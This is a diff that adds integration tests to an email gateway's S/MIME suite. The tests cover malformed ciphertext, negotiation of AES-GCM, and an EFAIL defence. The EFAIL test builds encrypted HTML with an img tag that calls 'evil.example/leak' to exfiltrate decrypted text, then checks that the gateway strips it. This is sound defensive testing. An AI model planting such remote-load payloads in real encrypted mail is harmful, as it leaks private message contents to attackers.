@@ -199,4 +199,69 @@ describe('S/MIME through the gateway', () => {
     const { stdout } = await run('gpgsm', ['--homedir', home, '--batch', '--list-keys']);
     expect(stdout).toContain('alice@example.com');
   });
+
+  it('hostile S/MIME (garbage, truncated, a bit flipped in AES-GCM) is delivered as it came with a clear failure header, nothing lost', async () => {
+    await run('openssl', ['cms', '-encrypt', '-in', join(dir, 'i1-inner.txt'), '-aes-256-gcm', '-outform', 'DER', '-out', join(dir, 'x-gcm.der'), alice.cert]);
+    const gcm = await readFile(join(dir, 'x-gcm.der'));
+    const flipped = Buffer.from(gcm);
+    flipped[flipped.length - 40]! ^= 0x01;
+    const bodies: [string, Buffer][] = [
+      ['garbage', Buffer.from('this is not CMS at all, not even base64 !!!')],
+      ['truncated', gcm.subarray(0, Math.floor(gcm.length / 2))],
+      ['flipped', flipped],
+    ];
+    for (const [name, der] of bodies) {
+      const raw = Buffer.from(
+        `From: mallory@partner.example\r\nTo: alice@example.com\r\nSubject: hostile ${name}\r\nDate: ${new Date().toUTCString()}\r\nMIME-Version: 1.0\r\n` +
+          `Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${der.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`,
+      );
+      expect(await sendRaw(port, 'mallory@partner.example', ['alice@example.com'], raw)).toMatch(/^250 /);
+    }
+    for (const [name] of bodies) {
+      const text = await readFile(await waitDelivered('alice@example.com', `hostile ${name}`), 'latin1');
+      expect(text, name).toMatch(/^X-Postern-Encryption: failed; method=smime; reason="[^"]+"\r$/m);
+      expect(text, name).toMatch(/^Content-Type: application\/pkcs7-mime/m);
+    }
+    const flippedText = await readFile((await delivered('alice@example.com', 'hostile flipped'))!, 'latin1');
+    expect(flippedText).toMatch(/X-Postern-Encryption: failed; .*reason="[^"]*(tag|altered)/);
+    expect(gw.logs.some((l) => l.event === 'worker.error')).toBe(false);
+  });
+
+  it('unsigned CBC-encrypted HTML arrives decrypted with its remote loads neutralised (EFAIL)', async () => {
+    const html = join(dir, 'x-html.txt');
+    await writeFile(html, 'Content-Type: text/html; charset=us-ascii\r\n\r\n<p>hello</p><img src="http://evil.example/leak?x=">token e1\r\n');
+    await run('openssl', ['cms', '-encrypt', '-in', html, '-aes256', '-out', join(dir, 'x-html.eml'), alice.cert]);
+    const enc = (await readFile(join(dir, 'x-html.eml'), 'latin1')).replace(/\r?\n/g, '\r\n');
+    const raw = Buffer.from(`From: carol@partner.example\r\nTo: alice@example.com\r\nSubject: html e1\r\nDate: ${new Date().toUTCString()}\r\n${enc}`, 'latin1');
+    expect(await sendRaw(port, 'carol@partner.example', ['alice@example.com'], raw)).toMatch(/^250 /);
+    const file = await waitDelivered('alice@example.com', 'html e1');
+    const text = await readFile(file, 'latin1');
+    expect(text).toMatch(/^X-Postern-Encryption: decrypted; .*integrity=unauthenticated; remote-content-removed=1\r$/m);
+    const body = leaves(await parseMail(await readFile(file)))[0]!.payload!.toString('latin1');
+    expect(body).toContain('token e1');
+    expect(body).not.toMatch(/ src="http/);
+  });
+
+  it('uses AES-256-GCM (AuthEnvelopedData) for a partner whose signed mail advertised it', async () => {
+    // Bob's client (here Postern's own signer, which advertises GCM) sends a signed message first.
+    const { prepareSigner, signMessage } = await import('../../src/smime/index.js');
+    const { createPrivateKey } = await import('node:crypto');
+    const pem = await readFile(bob.cert, 'utf8');
+    const der = Buffer.from(pem.replace(/-----[^-]+-----/g, '').replace(/\s+/g, ''), 'base64');
+    const pkcs8 = createPrivateKey(await readFile(bob.key, 'utf8')).export({ format: 'der', type: 'pkcs8' });
+    const signed = await signMessage(
+      Buffer.from(`From: bob@partner.example\r\nTo: alice@example.com\r\nSubject: capabilities c1\r\nDate: ${new Date().toUTCString()}\r\n\r\nhi alice\r\n`),
+      prepareSigner(der, pkcs8, []),
+    );
+    expect(await sendRaw(port, 'bob@partner.example', ['alice@example.com'], signed)).toMatch(/^250 /);
+    expect(await readFile(await waitDelivered('alice@example.com', 'capabilities c1'), 'latin1')).toMatch(/^X-Postern-Signature: valid; method=smime; signer=bob@partner\.example\r$/m);
+    const raw = Buffer.from(`From: alice@example.com\r\nTo: bob@partner.example\r\nSubject: reply c2\r\nDate: ${new Date().toUTCString()}\r\n\r\nsealed with GCM, token c2\r\n`);
+    expect(await sendRaw(port, 'alice@example.com', ['bob@partner.example'], raw)).toMatch(/^250 /);
+    const file = await waitDelivered('bob@partner.example', 'reply c2');
+    expect(await readFile(file, 'latin1')).toMatch(/^Content-Type: application\/pkcs7-mime; smime-type=authEnveloped-data/m);
+    const dec = join(dir, 'c2.eml');
+    await run('openssl', ['cms', '-decrypt', '-in', file, '-recip', bob.cert, '-inkey', bob.key, '-out', dec]);
+    await run('openssl', ['cms', '-verify', '-in', dec, '-CAfile', ourCa.cert, '-out', join(dir, 'c2.txt')]);
+    expect(await readFile(join(dir, 'c2.txt'), 'latin1')).toContain('token c2');
+  });
 });
